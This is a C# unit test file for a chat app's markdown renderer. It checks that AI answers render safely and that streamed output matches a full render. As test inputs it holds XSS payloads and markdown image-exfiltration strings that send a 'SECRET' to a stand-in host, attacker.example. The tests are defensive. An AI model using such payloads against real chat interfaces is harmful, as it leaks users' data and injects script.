using AiHub.Chat.Pages;

namespace AiHub.Tests;

/// <summary>An answer is text from a model: it renders as markdown and never as live HTML or script.</summary>
public sealed class ChatMarkdownTests
{
    static string Render(string markdown) => ChatMarkdown.Render(markdown).Value;

    [Fact]
    public void Raw_html_in_an_answer_is_shown_as_text()
    {
        var html = Render("Hello <script>alert(1)</script> <img src=x onerror=alert(2)>");
        Assert.DoesNotContain("<script", html, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("<img", html, StringComparison.OrdinalIgnoreCase);
        Assert.Contains("&lt;script&gt;", html);
    }

    [Fact]
    public void A_javascript_link_loses_its_target_and_a_web_link_opens_elsewhere()
    {
        Assert.DoesNotContain("javascript:", Render("[click](javascript:alert(1))"), StringComparison.OrdinalIgnoreCase);
        var link = Render("[docs](https://example.com/a)");
        Assert.Contains("href=\"https://example.com/a\"", link);
        Assert.Contains("target=\"_blank\"", link);
        Assert.Contains("noopener", link);
    }

    [Fact]
    public void Fenced_code_keeps_its_language_and_colours_keywords_strings_and_comments()
    {
        var html = Render("```csharp\nvar s = \"<b>\"; // note\nreturn 42;\n```");
        Assert.StartsWith("<pre class=\"aihub-code\"><code class=\"language-csharp\">", html);
        Assert.Contains("<span class=\"tok-str\">\"&lt;b&gt;\"</span>", html);
        Assert.Contains("<span class=\"tok-com\">// note</span>", html);
        Assert.Contains("<span class=\"tok-kw\">return</span>", html);
        Assert.DoesNotContain("<b>", html);
    }

    [Fact]
    public void Markdown_tables_and_emphasis_render()
    {
        var html = Render("**bold** and *it*\n\n| a | b |\n|---|---|\n| 1 | 2 |");
        Assert.Contains("<strong>bold</strong>", html);
        Assert.Contains("<table>", html);
    }

    [Theory]
    [InlineData("![secret](https://attacker.example/leak?d=SECRET)")]
    [InlineData("![secret](//attacker.example/leak?d=SECRET)")]
    [InlineData("![secret][pic]\n\n[pic]: https://attacker.example/leak?d=SECRET")]
    [InlineData("![secret](https://attacker.example/leak?d=SECRET){srcset=\"https://attacker.example/x 1x\"}")]
    public void A_remote_image_is_a_link_naming_its_host_and_loads_nothing(string markdown)
    {
        var html = Render(markdown);
        Assert.DoesNotContain("<img", html, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("srcset", html, StringComparison.OrdinalIgnoreCase);
        Assert.Contains("[secret] (attacker.example)", html);
        Assert.Contains("<a href=\"", html);
        Assert.Contains("attacker.example/leak?d=SECRET\"", html);
    }

    [Fact]
    public void A_raw_img_tag_in_an_answer_is_text_and_never_an_image()
    {
        var html = Render("<img src=\"https://attacker.example/leak?d=SECRET\" alt=\"x\">");
        Assert.DoesNotContain("<img", html, StringComparison.OrdinalIgnoreCase);
        Assert.Contains("&lt;img", html);
    }

    [Fact]
    public void An_image_inside_a_link_becomes_the_links_text()
    {
        var html = Render("[![badge](https://attacker.example/leak.png)](https://example.com/page)");
        Assert.DoesNotContain("<img", html, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("attacker.example/leak.png", html);
        Assert.Contains("href=\"https://example.com/page\"", html);
        Assert.Contains("[badge] (attacker.example)", html);
    }

    [Fact]
    public void A_remote_video_or_embed_link_loads_nothing()
    {
        var html = Render("![clip](https://attacker.example/leak.mp4)\n\n![yt](https://www.youtube.com/watch?v=abc)");
        foreach (var tag in new[] { "<video", "<iframe", "<source", "<img" })
            Assert.DoesNotContain(tag, html, StringComparison.OrdinalIgnoreCase);
    }

    [Fact]
    public void An_embedded_or_same_origin_image_stays_an_image()
    {
        Assert.Contains("<img src=\"/images/logo.png\"", Render("![logo](/images/logo.png)"));
        Assert.Contains("<img src=\"logo.png\"", Render("![logo](logo.png)"));
        Assert.Contains("<img src=\"data:image/png;base64,iVBORw0KGgo=\"", Render("![dot](data:image/png;base64,iVBORw0KGgo=)"));
        Assert.DoesNotContain("<img", Render("![page](data:text/html;base64,PHNjcmlwdD4=)"), StringComparison.OrdinalIgnoreCase);
    }

    [Theory]
    [InlineData("//host/x", false)]
    [InlineData("/\\host/x", false)]
    [InlineData("/\t/host/x", false)]
    [InlineData("https://host/x", false)]
    [InlineData("javascript:alert(1)", false)]
    [InlineData("", false)]
    [InlineData("/images/a.png", true)]
    [InlineData("a.png?x=1:2", true)]
    [InlineData("data:image/png;base64,AAAA", true)]
    [InlineData("data:text/html;base64,AAAA", false)]
    public void Only_embedded_and_same_origin_images_count_as_local(string src, bool local) =>
        Assert.Equal(local, ChatMarkdown.IsLocalImage(src));

    const string LongAnswer = """
        # Streams

        A stream is **a sequence** of data made available over time, like [a river](https://example.com/river).

        - tight one
        - tight two
          continued lazily

        - loose one

        - loose two

        1. first
        2. second

        3) third after a blank

        > A quote that goes on
        and on lazily.

        > Another quote.

        ```python
        def f(x):

            return x  # blank line above stays inside the fence


        print(f(1))
        ```

        | a | b |
        |---|---|
        | 1 | 2 |

            indented code

            more indented code after a blank

        Setext title
        ============

        10 apples are not a list, but 10. is.

        ~~~
        tilde fence

        still code
        ~~~

        ## Streams

        The end, with `inline code` and an ![image](https://img.example/x.png).
        """;

    /// <summary>Feeds <paramref name="text"/> in pieces of <paramref name="size"/> and checks every render against the whole.</summary>
    static StreamedMarkdown Stream(string text, int size, bool checkEachStep)
    {
        var streamed = new StreamedMarkdown();
        for (var at = size; ; at += size)
        {
            var sofar = text[..Math.Min(at, text.Length)];
            var html = streamed.Render(sofar).Value;
            if (checkEachStep || sofar.Length == text.Length)
                Assert.Equal(Render(sofar), html);
            if (sofar.Length == text.Length)
                return streamed;
        }
    }

    [Theory]
    [InlineData(1)]
    [InlineData(7)]
    [InlineData(64)]
    public void A_streamed_answer_renders_exactly_as_the_whole_text_at_every_step(int size)
    {
        var streamed = Stream(LongAnswer, size, checkEachStep: true);
        Assert.True(streamed.Settled > LongAnswer.Length / 2, $"only {streamed.Settled} of {LongAnswer.Length} settled");
    }

    [Fact]
    public void A_reference_definition_at_the_end_still_links_a_settled_paragraph()
    {
        var text = "See [the docs][d] first.\n\nMore text here.\n\nAnd more.\n\n[d]: https://example.com/docs\n";
        Stream(text, 3, checkEachStep: true);
        Assert.Contains("href=\"https://example.com/docs\"", Render(text));
    }

    [Fact]
    public void A_footnote_and_a_definition_list_render_as_the_whole_does()
    {
        Stream("Claim[^1] here.\n\nNext paragraph.\n\n[^1]: The source.\n", 5, checkEachStep: true);
        Stream("Term\n:   Meaning\n\nOther\n:   Another meaning\n\nAfter.", 4, checkEachStep: true);
    }

    [Fact]
    public void The_settled_part_of_a_long_answer_is_rendered_once_so_the_work_grows_with_its_length()
    {
        var text = string.Concat(Enumerable.Range(0, 400).Select(i => $"Paragraph {i} says something about streams, item {i}.\n\n"));
        var streamed = Stream(text, 16, checkEachStep: false);

        // Every settled character went to the renderer exactly once.
        Assert.Equal(streamed.Settled, streamed.SettledCharsRendered);
        Assert.True(streamed.Settled > text.Length - 100, $"{streamed.Settled} of {text.Length}");
        // Each render redoes only the last block or two, so the work is linear; rendering the whole each time would hand
        // the renderer n²/(2·16), about 680 times the answer's length, here.
        Assert.True(streamed.CharsRendered < 10L * text.Length, $"{streamed.CharsRendered} characters rendered for {text.Length}");
    }

    [Fact]
    public void A_new_answer_starts_again_instead_of_keeping_the_last_ones_blocks()
    {
        var streamed = new StreamedMarkdown();
        streamed.Render("First answer.\n\nIts second paragraph.\n\nThird");
        Assert.Equal(Render("Another one."), streamed.Render("Another one.").Value);
        Assert.Equal(Render("Another one.\n\nSecond"), streamed.Render("Another one.\n\nSecond").Value);
    }
}
